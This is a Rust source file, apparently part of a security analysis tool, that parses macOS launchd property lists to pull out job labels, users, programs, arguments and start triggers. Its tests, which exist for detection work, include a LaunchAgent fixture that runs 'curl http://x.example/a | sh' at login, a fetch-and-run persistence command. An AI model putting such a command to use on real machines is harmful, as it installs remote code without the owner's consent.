/*!
Definitions of launchd's jobs: property lists in XML.

One that was cut, or that is broken, is read as far as it goes.
*/

use super::facts::{Jobs, Trigger};
use super::{account, action};
use crate::derive::canonical::arena::{Arena, Piece};
use crate::derive::canonical::command::{Command, Commands, System};
use crate::event::Field;
use crate::record::syntax::xml::{self, Token, Tokens};

/// How deep the keys of a job stand: `plist/dict/key`.
const KEYS: usize = 3;

/// What a property list says of a job.
#[derive(Clone, Copy, Default)]
pub(crate) struct Said {
    pub(crate) label: Option<Piece>,
    user: Option<Piece>,
    program: Option<Piece>,
    /// The words of its command, as one line.
    line: Option<Piece>,
    /// How many bytes of it the first word takes.
    first: usize,
    triggers: [Option<Trigger>; MOST_TRIGGERS],
}

/// Most ways in which a job is started.
const MOST_TRIGGERS: usize = 4;

impl Said {
    /// States it for the job that is being told.
    pub(crate) fn tell(
        self,
        outer: Command,
        commands: &mut Commands,
        jobs: &mut Jobs,
    ) {
        for trigger in self.triggers.into_iter().flatten() {
            jobs.say(Field::JobTrigger, trigger.name());
        }
        if let Some(user) = self.user {
            account::push(user, System::Unix, &commands.arena, jobs);
        }
        // A program's words begin with what it is to take for its name.
        match (self.program, self.line) {
            (Some(program), line) => {
                let line = line.map(|line| line.after(self.first));
                let arena = &mut commands.arena;
                let mark = arena.mark();
                action::add_word(None, program, arena);
                if let Some(line) = line {
                    arena.extend_from(line);
                }
                let line = arena.since(mark);
                action::push_shell(commands, line, outer, jobs);
            }
            (None, Some(line)) => {
                action::push_shell(commands, line, outer, jobs);
            }
            (None, None) => {}
        }
    }

    fn starts(&mut self, trigger: Trigger) {
        let free = self.triggers.iter_mut().find(|slot| {
            slot.is_none_or(|known| known.name() == trigger.name())
        });
        if let Some(free) = free {
            *free = Some(trigger);
        }
    }
}

/// Reads a property list; `at_load` is when a job starts that runs as soon as
/// it is loaded.
pub(crate) fn read(
    list: Piece,
    at_load: Trigger,
    commands: &mut Commands,
) -> Said {
    let mut said = Said::default();
    let depth = super::facts::DEFINITION_DEPTH;
    let Some(copy) = commands.borrow_text(list, depth) else { return said };
    let arena = &mut commands.arena;
    let mut tokens = Tokens::new(&copy);
    let mut key: &[u8] = b"";
    while let Some(token) = tokens.next() {
        let Token::Start(name) = token else { continue };
        let name = xml::local_name(name);
        match (tokens.depth(), name) {
            (KEYS, b"key") => key = tokens.text().trim_ascii(),
            (KEYS, value) => {
                let text = tokens.clone().text().trim_ascii();
                said.take(key, value, text, at_load, arena);
            }
            (below, b"string")
                if below == KEYS.saturating_add(1)
                    && key == b"ProgramArguments" =>
            {
                let word = unescaped(tokens.text(), arena);
                let line = action::add_word(said.line, word, arena);
                if said.line.is_none() {
                    said.first = arena.get(line).len();
                }
                said.line = Some(line);
            }
            _ => {}
        }
    }
    commands.return_text(copy, depth);
    said
}

fn unescaped(raw: &[u8], arena: &mut Arena) -> Piece {
    arena.write_with(|bytes| xml::unescape_into(raw, bytes))
}

impl Said {
    /// Takes the value of a key.
    fn take(
        &mut self,
        key: &[u8],
        value: &[u8],
        text: &[u8],
        at_load: Trigger,
        arena: &mut Arena,
    ) {
        let is_on = !matches!(value, b"false");
        match key {
            b"Label" => self.label = Some(unescaped(text, arena)),
            b"UserName" => self.user = Some(unescaped(text, arena)),
            b"Program" => self.program = Some(unescaped(text, arena)),
            b"RunAtLoad" if is_on => self.starts(at_load),
            b"KeepAlive" if is_on => self.starts(Trigger::Always),
            b"StartInterval" => {
                let seconds = crate::bytes::number(text);
                let is_short = seconds.is_some_and(|seconds| seconds < 3600);
                self.starts(match is_short {
                    true => Trigger::Minute,
                    false => Trigger::Interval,
                });
            }
            b"StartCalendarInterval" => self.starts(Trigger::Calendar),
            b"WatchPaths" | b"QueueDirectories" | b"StartOnMount" if is_on => {
                self.starts(Trigger::PathChange);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::derive::canonical::command::System;
    use crate::derive::job::process::tests::told;

    fn written(folder: &str, keys: &str) -> String {
        let list = format!(
            r#"<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"><plist version="1.0"><dict><key>Label</key><string>com.x</string>{keys}</dict></plist>"#
        );
        let line = format!("cat > {folder}/x.plist <<'END'\n{list}\nEND\n");
        let line = format!("sh -c \"{}\"", line.replace('"', "\\\""));
        let told = told(&line, System::Unix);
        let (_, told) = told.split_once("|Name=").unwrap_or_default();
        told.to_owned()
    }

    #[test]
    fn what_a_text_writes_is_read() {
        const AGENTS: &str = "/Users/ann/Library/LaunchAgents";
        for (folder, keys, expected) in [
            (
                AGENTS,
                "<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl http://x.example/a | sh</string></array><key>RunAtLoad</key><true/>",
                "com.x|File=/Users/ann/Library/LaunchAgents/x.plist|Trigger=logon|Command=/usr/bin/sh|Arguments=-c curl http://x.example/a | sh|Command=curl|Arguments=http://x.example/a|Trait=command_reads_pipe|Command=sh|Arguments=",
            ),
            (
                "/Library/LaunchDaemons",
                "<key>Program</key><string>/tmp/a b</string><key>RunAtLoad</key><true/><key>KeepAlive</key><dict><key>SuccessfulExit</key><false/></dict><key>StartInterval</key><integer>60</integer><key>UserName</key><string>root</string>",
                "com.x|File=/Library/LaunchDaemons/x.plist|Trigger=boot|Trigger=always|Trigger=minute|User=root|Command=/tmp/a b|Arguments=",
            ),
            (
                AGENTS,
                "<key>Program</key><string>/tmp/x</string><key>ProgramArguments</key><array><string>y z</string><string>it&apos;s</string></array><key>RunAtLoad</key><false/><key>WatchPaths</key><array><string>/a</string></array><key>StartInterval</key><integer>86400</integer>",
                "com.x|File=/Users/ann/Library/LaunchAgents/x.plist|Trigger=path_change|Trigger=interval|Command=/tmp/x|Arguments=it's",
            ),
        ] {
            assert_eq!(written(folder, keys), expected);
        }
    }
}
